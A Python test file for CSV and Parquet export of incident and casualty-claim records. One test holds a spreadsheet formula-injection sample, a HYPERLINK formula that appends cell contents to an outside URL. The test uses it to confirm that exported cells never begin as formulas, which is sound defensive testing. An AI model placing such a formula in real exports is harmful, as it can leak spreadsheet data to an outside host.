"""Tables: whatever an incident holds stands in them, comes back from them, and runs in no spreadsheet."""

import csv
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pyarrow.parquet
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from disclosed_incidents import ABOUT, ANY_TEXT, HOSTILE, claim, incident, incidents, report, slot
from tawthiq.lexicon.exports import export_tables
from tawthiq.publication.tables import csv_tables, parquet_tables
from tawthiq.publication.tables.carrying import STAND_IN, writable
from tawthiq.publication.tables.csv_cells import text_cell, text_of
from tawthiq.publication.tables.reading import read_csv, read_parquet
from tawthiq.records.disclosure import DisclosedIncident
from tawthiq.records.errors import UnreadableInput
from tawthiq.records.handing_out import WrittenFile

Write = Callable[..., WrittenFile]
Read = Callable[[Path], Iterator[DisclosedIncident]]
BOTH = ((csv_tables.write, read_csv), (parquet_tables.write, read_parquet))
FORMULA = tuple("=+-@\t\r\n＝＋－＠")


def made(write: Write, some: list[DisclosedIncident], folder: Path) -> WrittenFile:
    return write(iter(some), ABOUT, folder)


def digests(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


def cells(folder: Path, table: str) -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


@given(incidents(ANY_TEXT))
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
def test_csv_gives_back_every_incident_and_tells_of_what_it_could_not_hold(some: list[DisclosedIncident]) -> None:
    comes_back(csv_tables.write, read_csv, some)


@given(incidents(ANY_TEXT))
@settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
def test_parquet_gives_back_every_incident_and_tells_of_what_it_could_not_hold(some: list[DisclosedIncident]) -> None:
    comes_back(parquet_tables.write, read_parquet, some)


def comes_back(write: Write, read: Read, some: list[DisclosedIncident]) -> None:
    with TemporaryDirectory() as place:
        told = made(write, some, Path(place) / "out")
        found = list(read(Path(place) / "out"))
    assert found == [writable(each) for each in some]
    assert told.incidents == len(some)
    assert told.claims == sum(len(each.claims) for each in some)
    lost = repr(found).count(STAND_IN) - repr(some).count(STAND_IN)
    assert {each.field: each.times for each in told.not_carried} == ({"characters": lost} if lost else {})


@pytest.mark.parametrize(("write", "read"), BOTH)
def test_the_same_incidents_give_the_same_bytes(write: Write, read: Read, tmp_path: Path) -> None:
    some = [incident(number, reports=(report(),), slots=(slot("killed-all", claim()),)) for number in range(1, 60)]
    made(write, some, tmp_path / "one")
    made(write, some, tmp_path / "two")
    assert digests(tmp_path / "one") == digests(tmp_path / "two")
    assert list(read(tmp_path / "two")) == some


@given(st.one_of(st.sampled_from(HOSTILE), st.text()))
def test_no_cell_of_text_begins_as_a_formula_and_every_cell_comes_back(text: str) -> None:
    cell = text_cell(text)
    assert text_of(cell) == text
    assert not cell.lstrip("\u200e\u200f\ufeff \u00a0").startswith(FORMULA)


def test_a_formula_in_the_words_of_a_report_stays_words(tmp_path: Path) -> None:
    words = '=HYPERLINK("https://example.org/?"&A1,"x")'
    made(csv_tables.write, [incident(slots=(slot("killed-all", claim(text=words)),))], tmp_path / "out")
    raw = (tmp_path / "out" / "claims.csv").read_text(encoding="utf-8")
    assert ",=HYPERLINK" not in raw
    assert ',"=HYPERLINK' not in raw
    assert next(read_csv(tmp_path / "out")).claims[0].text == words


def test_numbers_are_no_text_and_get_no_apostrophe(tmp_path: Path) -> None:
    made(csv_tables.write, [incident(score=-0.5)], tmp_path / "out")
    assert cells(tmp_path / "out", "incidents")[0]["score"] == "-0.5"


def test_a_claim_stands_with_its_pointer_and_whether_people_chose_it(tmp_path: Path) -> None:
    low, high = claim(key="low"), claim(key="high", minimum=7, maximum=7, position=1, document="d2", source=2)
    killed = slot("killed-all", low, high, standing="disputed", chosen="7..7", disputes=((0, 1),))
    documents = (report(), report(document="d2", sha256="cd" * 32, source=2))
    made(csv_tables.write, [incident(slots=(killed,), reports=documents)], tmp_path / "out")
    first, second = cells(tmp_path / "out", "claims")
    assert (first["document"], first["sha256"], first["start"], first["end"]) == ("d1", "ab" * 32, "10", "21")
    assert (first["text"], first["speaker"], first["source"]) == ("ثلاثة أشخاص", "مصدر طبي", "1")
    assert (first["chosen"], second["chosen"]) == ("false", "true")
    assert first["disputed"] == "true"
    (row,) = cells(tmp_path / "out", "incidents")
    assert (row["killed_lowest"], row["killed_highest"], row["disputed"]) == ("3", "7", "true")


def test_a_number_that_nobody_gives_is_empty_and_never_zero(tmp_path: Path) -> None:
    made(csv_tables.write, [incident()], tmp_path / "out")
    (row,) = cells(tmp_path / "out", "incidents")
    assert (row["killed_lowest"], row["killed_highest"]) == ("", "")


def test_a_part_of_the_harmed_is_never_added_to_the_whole(tmp_path: Path) -> None:
    children = claim(key="c", group="children", part_of=True, minimum=2, maximum=None)
    made(csv_tables.write, [incident(slots=(slot("killed-all", claim(), children),))], tmp_path / "out")
    (row,) = cells(tmp_path / "out", "incidents")
    assert (row["killed_lowest"], row["killed_highest"]) == ("3", "3")


def test_a_part_of_a_number_is_no_lowest_number_where_only_that_number_counts_the_harmed(tmp_path: Path) -> None:
    civilians = claim(group="civilians", minimum=65, maximum=None)
    children = claim(key="c", group="children", part_of=True, minimum=18, maximum=None)
    made(csv_tables.write, [incident(slots=(slot("killed-all", civilians, children),))], tmp_path / "out")
    (row,) = cells(tmp_path / "out", "incidents")
    assert (row["killed_lowest"], row["killed_highest"]) == ("65", "65")


def test_a_range_that_people_chose_holds_the_claims_within_it_and_no_floor_of_a_group(tmp_path: Path) -> None:
    within, beyond = claim(key="a", minimum=5, maximum=5), claim(key="b", minimum=9, maximum=9)
    women = claim(key="w", group="women", minimum=5, maximum=5)
    made(
        csv_tables.write,
        [incident(slots=(slot("killed-all", within, beyond, women, chosen="3..7"),))],
        tmp_path / "out",
    )
    assert [row["chosen"] for row in cells(tmp_path / "out", "claims")] == ["true", "false", "false"]


def test_what_was_left_open_is_chosen_by_nobody(tmp_path: Path) -> None:
    made(csv_tables.write, [incident(slots=(slot("killed-all", claim(), chosen="open"),))], tmp_path / "out")
    assert [row["chosen"] for row in cells(tmp_path / "out", "claims")] == [""]


def test_csv_is_what_excel_takes_for_utf_8_and_ends_its_lines_as_rfc_4180_says(tmp_path: Path) -> None:
    made(csv_tables.write, [incident(reports=(report(title="سطر\nآخر ٣"),))], tmp_path / "out")
    raw = (tmp_path / "out" / "reports.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 2
    assert "سطر\nآخر ٣".encode() in raw


def test_parquet_has_real_types_that_another_reader_sees(tmp_path: Path) -> None:
    killed = slot("killed-all", claim(), disputes=((0, 1),))
    made(parquet_tables.write, [incident(slots=(killed,), reports=(report(),), violations=("KIL",))], tmp_path / "out")

    def types(table: str) -> dict[str, str]:
        schema = pyarrow.parquet.read_schema(tmp_path / "out" / f"{table}.parquet")
        return {field.name: str(field.type) for field in schema}

    claims, reports = types("claims"), types("reports")
    assert (claims["first"], claims["minimum"], claims["hedged"]) == ("date32[day]", "int64", "bool")
    assert reports["collected"] == "timestamp[us, tz=UTC]"
    assert types("incidents")["violations"].startswith("list<")
    assert types("slots")["disputes"].count("list<") == 2
    file = pyarrow.parquet.ParquetFile(tmp_path / "out" / "claims.parquet")
    assert file.metadata.row_group(0).column(0).compression == "ZSTD"
    rows = pyarrow.parquet.read_table(tmp_path / "out" / "claims.parquet").to_pylist()
    assert (rows[0]["text"], rows[0]["code"], rows[0]["sha256"]) == ("ثلاثة أشخاص", None, "ab" * 32)
    assert sorted(path.suffix for path in (tmp_path / "out").iterdir() if path.suffix == ".rows") == []


@pytest.mark.parametrize(("write", "read"), BOTH)
def test_four_hundred_claims_and_an_incident_without_anything(write: Write, read: Read, tmp_path: Path) -> None:
    many = incident(1, slots=(slot("killed-all", *(claim(key=f"k{number}") for number in range(400))),))
    assert made(write, [many, incident(2)], tmp_path / "out").claims == 400
    assert list(read(tmp_path / "out")) == [many, incident(2)]


@pytest.mark.parametrize(("write", "read"), BOTH)
def test_nothing_at_all_gives_empty_tables(write: Write, read: Read, tmp_path: Path) -> None:
    assert made(write, [], tmp_path / "out").incidents == 0
    assert list(read(tmp_path / "out")) == []


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_every_column_is_described_in_both_languages_and_for_programs(suffix: str, tmp_path: Path) -> None:
    write = csv_tables.write if suffix == ".csv" else parquet_tables.write
    made(write, [incident(reports=(report(), report(document="d2")))], tmp_path / "out")
    columns = {(row["table"], row["column"]): row for row in cells(tmp_path / "out", "columns")}
    package = json.loads((tmp_path / "out" / "datapackage.json").read_text(encoding="utf-8"))
    page = (tmp_path / "out" / "README.html").read_text(encoding="utf-8")
    for resource in package["resources"]:
        assert (tmp_path / "out" / resource["path"]).exists()
        assert resource["rows"] == {"incidents": 1, "reports": 2}.get(resource["name"], 0)
        for field in resource["schema"]["fields"]:
            row = columns[resource["name"], field["name"]]
            assert all(row[key] for key in ("meaning_ar", "meaning_en", "empty_ar", "empty_en"))
            assert page.count(f">{field['name']}<") >= 2
    assert {name for name, _ in columns} == set(export_tables())
    assert 'lang="ar" dir="rtl"' in page
    assert "$" not in page


def test_every_table_has_the_columns_that_it_says(tmp_path: Path) -> None:
    made(csv_tables.write, [], tmp_path / "out")
    for table, columns in export_tables().items():
        head = (tmp_path / "out" / f"{table}.csv").read_text(encoding="utf-8-sig").strip()
        assert head.split(",") == [column.name for column in columns]


def spoil(folder: Path, change: Callable[[str], str]) -> None:
    path = folder / "claims.csv"
    path.write_text(change(path.read_text(encoding="utf-8-sig")), encoding="utf-8", newline="")


CHANGES: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace("slot_key", "slot", 1),
    lambda text: text.replace("\n12,", "\n99,", 1),
    lambda text: text + "12,too,few\r\n",
    lambda text: text.replace("\n12,killed-all,k1,0", "\n12,killed-all,k1,zero", 1),
)


@pytest.mark.parametrize("change", CHANGES)
def test_a_table_that_is_not_ours_is_refused_by_name(change: Callable[[str], str], tmp_path: Path) -> None:
    made(csv_tables.write, [incident(slots=(slot("killed-all", claim()),))], tmp_path / "out")
    spoil(tmp_path / "out", change)
    with pytest.raises(UnreadableInput, match="claims"):
        list(read_csv(tmp_path / "out"))


def test_a_full_disk_under_duckdb_is_told_as_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(parquet_tables.TYPES, "integer", "NO_SUCH_TYPE")
    with pytest.raises(OSError, match="DuckDB could not write Parquet"):
        made(parquet_tables.write, [incident()], tmp_path / "out")


def test_incidents_are_written_as_they_come(tmp_path: Path) -> None:
    seen: list[int] = []

    def coming() -> Iterator[Any]:
        for number in range(1, 2_000):
            seen.append((tmp_path / "out" / "incidents.csv").stat().st_size)
            yield incident(number)

    csv_tables.write(coming(), ABOUT, tmp_path / "out")
    assert seen[-1] > seen[0] + 50_000
